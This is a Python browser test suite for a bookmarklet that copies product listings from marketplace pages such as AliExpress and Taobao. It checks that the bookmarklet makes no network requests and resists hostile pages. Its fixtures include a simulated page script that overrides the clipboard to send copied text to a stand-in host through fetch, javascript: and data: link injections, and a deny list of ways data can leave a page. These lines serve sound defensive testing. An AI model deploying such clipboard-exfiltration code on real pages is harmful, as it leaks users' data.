"""The bookmarklet in a real browser: what the page shows is copied, nothing is asked or harmed."""

import json
import os
import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import unquote

import pytest
from playwright.sync_api import Browser, Route, sync_playwright

from headwater.cli.bookmarklet import link
from headwater.cli.bookmarklet import page as explained
from headwater.domain.listings import Listing
from headwater.domain.pages import Verdict
from headwater.usecases.importing import Reading, read_file
from headwater_demo.saved_pages import write_saved_pages
from tests.conftest import PROJECT

pytestmark = pytest.mark.browser
CAPTURES = Path(os.environ.get("CAPTURES_DIR", PROJECT / "../shared/captures")).resolve()
LISTING = "https://www.aliexpress.com/item/1005006000000001.html"
SAVED = [
    # File, where it was open, how many of its listings are links in the page as it was saved.
    ("alibaba/search/alibaba_search_2025-12_sse_fabric-bubble-sofa.html", "alibaba.com", 1),
    ("aliexpress/search/aliexpress_search_2025-03_en_iphone.html", "aliexpress.com", 8),
    ("lazada/search/lazada-ph_search_2024-02_diapers-watson.html", "lazada.com.ph", 30),
]


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    executable = shutil.which("chromium")
    if executable is None:
        pytest.skip("no chromium on the PATH: on Debian, apt install chromium")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, args=["--no-sandbox"])
        yield browser
        browser.close()


@dataclass
class Clicked:
    """What was on the clipboard, in the panel, and what the page asked for after the click."""

    copied: str
    said: str
    asked: list[str] = field(default_factory=list)

    @property
    def readings(self) -> list[Reading]:
        return list(read_file("pasted.txt", self.copied.encode()))

    @property
    def listings(self) -> dict[str, Listing]:
        return {str(one.key): one for reading in self.readings for one in reading.listings}


def click(chromium: Browser, html: str | bytes, url: str, *, headers: str = "") -> Clicked:
    """Open the page as if it came from there, and click the bookmark."""
    asked: list[str] = []
    media_type = "text/html; charset=utf-8" if isinstance(html, str) else "text/html"

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        if len(asked) == 1:
            secured = {"content-security-policy": headers} if headers else {}
            route.fulfill(body=html, headers={"content-type": media_type, **secured})
        else:
            route.abort()

    context = chromium.new_context(java_script_enabled=True)
    try:
        context.grant_permissions(["clipboard-read", "clipboard-write"])
        context.route("**/*", answer)
        page = context.new_page()
        page.goto(url, wait_until="domcontentloaded")
        page.wait_for_timeout(300)
        before = len(asked)
        page.evaluate(unquote(link().removeprefix("javascript:")))
        panel = page.locator("#headwater-facts")
        panel.wait_for()
        said = panel.locator("div").inner_text()
        copied = panel.locator("textarea").input_value()
        page.wait_for_timeout(100)
        return Clicked(copied, said, asked[before:])
    finally:
        context.close()


def test_what_a_saved_page_shows_is_copied_and_read_again(
    chromium: Browser, tmp_path: Path
) -> None:
    for file in write_saved_pages(tmp_path):
        html = file.read_text("utf-8")
        saved_from = re.search(r"saved from url=\(\d+\)(\S+)", html)
        assert saved_from is not None, file.name
        clicked = click(chromium, html, saved_from[1])
        read = [one for reading in read_file(file.name, html.encode()) for one in reading.listings]
        known = {str(one.key): one for one in read}
        # Some wait in the page's data until somebody scrolls: they are not on the screen.
        assert set(clicked.listings) <= set(known), file.name
        assert len(clicked.listings) >= 0.6 * len(known), file.name
        for key, copied in clicked.listings.items():
            read_price, price = known[key].price, copied.price
            assert copied.title == known[key].title
            if read_price is not None and price is not None:
                assert price.minimum == read_price.minimum
                # A lone "$" is nobody's dollar.
                assert price.currency in {read_price.currency, None}
        assert clicked.asked == []
        assert "copied" in clicked.said


@pytest.mark.parametrize(("name", "host", "least"), SAVED)
def test_a_real_page_of_results_is_copied(
    chromium: Browser, name: str, host: str, least: int
) -> None:
    file = CAPTURES / name
    if not file.exists():
        pytest.skip(f"no captured pages at {CAPTURES.name} (set CAPTURES_DIR): private test input")
    clicked = click(chromium, file.read_bytes(), f"https://www.{host}/search")
    read = [one for reading in read_file(name, file.read_bytes()) for one in reading.listings]
    known = {str(one.key): one for one in read}
    found = set(clicked.listings) & set(known)
    assert len(found) >= least
    titled = sum(bool(clicked.listings[key].title) for key in found)
    assert titled >= len(found) * 0.9


@pytest.mark.parametrize(
    ("name", "url"),
    [
        (
            "1688/listing/1688_listing_2019-10_idetail_601748658723.html",
            "https://detail.1688.com/offer/601748658723.html",
        ),
        (
            "taobao/listing/taobao_listing_2017-12_561495525977.html",
            "https://item.taobao.com/item.htm?id=561495525977",
        ),
        (
            "tmall/listing/tmall_listing_2020-06_605258110430.html",
            "https://detail.tmall.com/item.htm?id=605258110430",
        ),
        (
            "aliexpress/listing/aliexpress_listing_2022-12_en_modules_3256804000188858.html",
            "https://www.aliexpress.com/item/3256804000188858.html",
        ),
    ],
)
def test_a_real_listing_is_copied_as_it_is_read(chromium: Browser, name: str, url: str) -> None:
    file = CAPTURES / name
    if not file.exists():
        pytest.skip(f"no captured pages at {CAPTURES.name} (set CAPTURES_DIR): private test input")
    clicked = click(chromium, file.read_bytes(), url)
    (listing,) = (one for reading in clicked.readings for one in reading.listings)
    (read,) = (one for one in read_file(name, file.read_bytes()) if one.listings)
    assert listing.key == read.listings[0].key
    assert listing.title is not None
    assert read.listings[0].title is not None
    assert read.listings[0].title[:12] in listing.title


def test_the_open_listing_is_copied_with_its_facts(chromium: Browser) -> None:
    html = (
        f"<title>x</title><link rel=canonical href={LISTING}>"
        "<meta property=og:title content='Harvelk Mug 搪瓷杯'>"
        "<meta property=og:image content=https://ae01.alicdn.com/kf/Sabc.jpg_640x640.jpg>"
        "<span class=product-price-value>US $12.80</span>"
        "<a href=https://www.aliexpress.com/store/1102345678>shop</a>"
        "<a href=https://www.aliexpress.com/item/1005006000000009.html>another</a>"
    )
    clicked = click(chromium, html, f"{LISTING}?spm=a2g0o.x")
    (reading,) = clicked.readings
    (listing,) = reading.listings
    assert (listing.key.offer_id, listing.title) == ("1005006000000001", "Harvelk Mug 搪瓷杯")
    assert listing.price is not None
    assert (str(listing.price.minimum), listing.price.currency) == ("12.80", "USD")
    assert listing.seller is not None
    assert listing.seller.id == "1102345678"
    assert listing.pictures == ("https://ae01.alicdn.com/kf/Sabc.jpg",)


HOSTILE = {
    "traps": "JSON.stringify = () => '{}'; Array.prototype.toJSON = () => 0;"
    "Object.prototype.toJSON = () => 'x'; String.prototype.slice = () => '';"
    "String.prototype.replace = () => ''; RegExp.prototype.exec = () => null;"
    "Document.prototype.querySelectorAll = () => []; Element.prototype.getAttribute = () => 'x';"
    "Object.defineProperty(Node.prototype, 'textContent', {get: () => 'x', set() {}});",
    "clipboard": "navigator.clipboard.writeText = t => fetch('https://x.example/' + t);"
    "document.execCommand = () => { throw 1 };",
}


@pytest.mark.parametrize("trap", sorted(HOSTILE))
def test_a_page_with_traps_is_read_or_the_person_is_told(chromium: Browser, trap: str) -> None:
    html = f"<h1>Harvelk Mug</h1><script>{HOSTILE[trap]}</script>"
    clicked = click(chromium, html, LISTING)
    assert clicked.asked == []
    assert json.loads(clicked.copied)["url"] == LISTING
    assert [*clicked.listings] == ["aliexpress#1005006000000001"]


def test_a_huge_page_is_bounded_and_what_is_left_out_is_said(chromium: Browser) -> None:
    cards = "".join(
        f"<div><a href='/item/10050060{n:08}.html?x={'y' * 5000}' title='{'搪瓷杯' * 200}'>"
        f"{'x' * 900}</a></div>"
        for n in range(3000)
    )
    clicked = click(chromium, cards, "https://www.aliexpress.com/w/wholesale-mug.html")
    assert len(clicked.listings) == 200
    assert len(clicked.copied) < 300_000
    # More than 4096 bytes in a line are lost where they are pasted into a terminal.
    assert max(len(line.encode()) for line in clicked.copied.splitlines()) < 4000
    assert any("2800 listings were not copied" in one.reason for one in clicked.readings)


def test_only_web_addresses_are_copied_and_a_strict_page_changes_nothing(
    chromium: Browser,
) -> None:
    html = (
        "<a href='javascript:alert(1)//aliexpress.com/item/1005006000000002.html'>a</a>"
        "<a href='data:text/html,aliexpress.com/item/1005006000000003.html'>b</a>"
        "<a href='/item/1005006000000004.html'><img src='javascript:1' alt='&quot;},{&quot;'></a>"
    )
    strict = "default-src 'none'"
    clicked = click(chromium, html, "https://www.aliexpress.com/", headers=strict)
    assert [*clicked.listings] == ["aliexpress#1005006000000004"]
    assert clicked.listings["aliexpress#1005006000000004"].title == '"},{"'
    assert clicked.listings["aliexpress#1005006000000004"].pictures == ()


def test_a_wall_is_told_and_nothing_is_taken_from_it(chromium: Browser) -> None:
    clicked = click(chromium, "<title>验证码拦截</title>", "https://detail.1688.com/offer/1.html")
    assert clicked.listings == {}
    assert [one.verdict for one in clicked.readings] == [Verdict.BLOCKED_CHALLENGE]


def test_the_script_knows_no_way_out() -> None:
    script = unquote(link())
    for word in ("fetch", "XMLHttp", "sendBeacon", "cookie", "localStorage", "WebSocket", "http:/"):
        assert word not in script, word


def test_the_page_that_explains_it_carries_the_link_whole(chromium: Browser) -> None:
    page = chromium.new_page()
    page.set_content(explained())
    assert page.locator("a.take").get_attribute("href") == link()
    page.close()
